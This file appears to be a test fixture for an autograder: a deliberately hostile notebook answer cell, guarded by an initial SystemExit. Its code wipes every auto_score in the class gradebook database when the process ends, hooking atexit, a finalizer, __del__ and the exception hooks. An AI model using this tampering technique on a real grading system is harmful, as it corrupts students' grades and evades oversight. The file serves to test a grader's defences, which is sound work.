# Edits the gradebook when its process ends: atexit, a finalizer, an object of the module, the
# hooks for errors.
# gains: nothing
# stock: runs
# ruff: noqa
raise SystemExit("a hostile notebook: tests/grading/hostile/README.md")

# %% [answer q01-total]
import atexit
import sqlite3
import sys
import threading
import time
import weakref


def edit(*arguments):
    try:
        book = sqlite3.connect("@CLASS@/gradebook.db", timeout=1)
        book.execute("update grade set auto_score = 0")
        book.commit()
    except sqlite3.Error:
        pass
    time.sleep(0.5)


class Last:
    def __del__(self):
        edit()


kept = Last()
atexit.register(edit)
weakref.finalize(kept, edit)
sys.excepthook = sys.unraisablehook = threading.excepthook = edit


def total(numbers):
    raise ValueError
